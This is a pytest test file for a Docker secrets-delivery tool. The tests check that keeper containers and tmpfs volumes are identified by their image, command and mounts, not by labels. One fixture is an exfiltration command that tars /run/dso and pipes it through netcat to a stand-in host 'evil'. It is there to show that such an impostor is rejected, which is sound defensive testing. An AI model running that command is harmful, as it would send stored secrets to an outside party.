"""A keeper is known by what it is; labels, names and tags prove nothing."""

from __future__ import annotations

from typing import Any

import pytest

from dso.delivery.identity import check_volumes, is_keeper, is_of_agent, is_ours, users_of
from dso.delivery.image import IDS
from dso.errors import DsoError, EngineError, KeeperError, VolumeConflictError
from tests.support import listed

BIND = {"type": "tmpfs", "device": "/srv/plain", "o": "bind"}
LABELS = {"io.dso.role": "keeper", "io.dso.project": "shop", "io.dso.vault": "v", "io.dso.keeper": "1"}


@pytest.mark.parametrize("image_id", [image_id for ids in IDS.values() for image_id in ids])
def test_a_keeper_is_one_in_either_store_on_either_architecture(image_id: str) -> None:
    assert is_keeper(listed.keeper("api", ImageID=image_id))
    assert is_keeper(listed.keeper(State="exited"), "shop")


OTHERS: dict[str, dict[str, Any]] = {
    "another image": {"ImageID": "sha256:" + "0" * 64},
    "an image by its tag": {"ImageID": "dso/keeper:1"},
    "no image": {"ImageID": ""},
    "another program": {"Command": "/bin/sh -c 'tar c /run/dso | nc evil 1'"},
    "arguments": {"Command": "/pause /run/dso/api/key"},
    "a network": {"HostConfig": {"NetworkMode": "bridge"}},
    "made by Compose": {"Labels": {**LABELS, "com.docker.compose.project": "evil"}},
    "another role": {"Labels": {**LABELS, "io.dso.role": "volume"}},
    "no project": {"Labels": {"io.dso.role": "keeper"}},
    "no mounts": {"Mounts": []},
    "no parent": {"Mounts": [listed.mount("shop", "api")]},
    "one mount more": {"Mounts": [listed.mount("shop"), {"Type": "bind", "Source": "/", "Destination": "/host"}]},
    "a directory": {"Mounts": [listed.mount("shop"), listed.mount("shop", "api", Type="bind", Name="")]},
    "another driver": {"Mounts": [listed.mount("shop"), listed.mount("shop", "api", Driver="nfs")]},
    "another name": {"Mounts": [listed.mount("shop"), listed.mount("shop", "api", Name="elsewhere")]},
    "another's parent": {"Mounts": [listed.mount("shop", Name="blog_dso")]},
    "another place": {"Mounts": [listed.mount("shop"), listed.mount("shop", "api", Destination="/api")]},
}


@pytest.mark.parametrize("change", OTHERS.values(), ids=OTHERS)
def test_a_container_with_the_labels_and_something_else_is_no_keeper(change: dict[str, Any]) -> None:
    assert not is_keeper(listed.keeper("api", **change))


def test_a_keeper_of_another_project_is_not_this_projects() -> None:
    assert not is_keeper(listed.keeper("api"), "blog")


@pytest.mark.parametrize("options", [listed.TMPFS, listed.TMPFS + ",noswap"])
def test_a_volume_is_ours_with_exactly_our_options(options: str) -> None:
    assert is_ours(listed.volume("api", options=options), "shop")
    assert is_ours(listed.volume(options=options), "shop")


FOREIGN: dict[str, dict[str, Any]] = {
    "made by hand": {"Labels": None, "Options": None},
    "another driver": {"Driver": "nfs"},
    "bound to a directory": {"Options": BIND},
    "another device": {"Options": {**BIND, "o": listed.TMPFS}},
    "another size": {"Options": {"type": "tmpfs", "device": "tmpfs", "o": "size=64m"}},
    "bound as well": {"Options": {"type": "tmpfs", "device": "tmpfs", "o": listed.TMPFS + ",bind"}},
    "another option": {"Options": {"type": "tmpfs", "device": "tmpfs", "o": listed.TMPFS, "x": "y"}},
    "without options": {"Options": None},
    "another project": {"Labels": {"io.dso.role": "volume", "io.dso.project": "blog", "io.dso.service": "api"}},
    "another service": {"Labels": {"io.dso.role": "volume", "io.dso.project": "shop", "io.dso.service": "db"}},
}


@pytest.mark.parametrize("change", FOREIGN.values(), ids=FOREIGN)
def test_a_volume_that_is_not_ours_is_never_written_into(change: dict[str, Any]) -> None:
    volume = listed.volume("api", **change)
    assert not is_ours(volume, "shop")
    with pytest.raises(VolumeConflictError, match="shop_dso_api exists and was not made by DSO") as caught:
        check_volumes([listed.volume(), volume], "shop", ["api"])
    assert "docker volume rm shop_dso_api" in caught.value.hint


def test_two_projects_whose_volumes_have_one_name_do_not_share_it() -> None:
    """The service `b_dso_c` of `a` and the service `c` of `a_dso_b`."""
    volume = listed.volume("b_dso_c", project="a")
    assert volume["Name"] == listed.volume("c", project="a_dso_b")["Name"]
    with pytest.raises(VolumeConflictError):
        check_volumes([listed.volume(project="a_dso_b"), volume], "a_dso_b", ["c"])


def test_a_volume_that_is_missing_is_not_taken_for_granted() -> None:
    with pytest.raises(EngineError, match="shop_dso_api"):
        check_volumes([listed.volume()], "shop", ["api"])


def test_a_volume_of_a_similar_name_does_not_matter() -> None:
    similar = {"Name": "webshop_dso_api", "Driver": "local", "Labels": None, "Options": None}
    check_volumes([listed.volume(), listed.volume("api"), similar], "shop", ["api"])


def test_a_volume_of_cloud_mode_is_said_to_be_one() -> None:
    volume = listed.volume("api", Driver="dso", Options={"spec": "{}"})
    assert is_of_agent(volume, "shop")
    with pytest.raises(VolumeConflictError, match="driver dso, as in Cloud Mode") as caught:
        check_volumes([listed.volume(), volume], "shop", ["api"])
    assert "docker dso down" in caught.value.hint


@pytest.mark.parametrize(
    "change",
    [
        {"Driver": "nfs", "Options": {"addr": "x"}},
        {"Driver": "dso", "Options": {"spec": "{}", "x": "y"}},
        {"Driver": "local", "Options": {"spec": "{}"}},
        {"Driver": "dso", "Options": {"spec": "{}"}, "Name": "precious"},
    ],
)
def test_a_volume_with_our_labels_is_not_the_agents_for_that(change: dict[str, Any]) -> None:
    assert not is_of_agent(listed.volume("api", **change), "shop")


# Who mounts them

VOLUMES = ["shop_dso", "shop_dso_api"]


class FakeEngine:
    """Lists these containers."""

    def __init__(self, *containers: dict[str, Any]) -> None:
        self.found = list(containers)

    def containers(self, volumes: list[str]) -> list[dict[str, Any]]:
        assert volumes == VOLUMES
        return self.found


def users(*containers: dict[str, Any]) -> list[dict[str, Any]]:
    return users_of(FakeEngine(*containers), VOLUMES, "shop")  # type: ignore[arg-type]


def test_a_keeper_and_the_projects_own_containers_may_mount_them() -> None:
    everybody = [listed.keeper("api"), listed.user("shop-api-1", "shop_dso_api", project="shop")]
    assert users(*everybody) == everybody


@pytest.mark.parametrize(
    ("container", "error"),
    [
        (listed.user("evil", "shop_dso_api", project="evil"), VolumeConflictError),
        (listed.user("evil", "shop_dso_api"), VolumeConflictError),
        (listed.user("evil", "shop_dso", project="shop"), VolumeConflictError),
        (listed.user("evil", "shop_dso_api", project="evil", **LABELS), VolumeConflictError),
        (listed.user("evil", "shop_dso_api", **LABELS), KeeperError),
        (listed.keeper("api", Names=["/evil"], ImageID="x"), KeeperError),
        (listed.keeper("api", Names=["/evil"], project="blog", Mounts=[listed.mount("shop")]), KeeperError),
    ],
)
def test_anybody_else_who_mounts_one_stops_the_delivery(container: dict[str, Any], error: type[DsoError]) -> None:
    with pytest.raises(error, match="container evil") as caught:
        users(listed.keeper("api"), container)
    assert "docker rm -f evil" in caught.value.hint
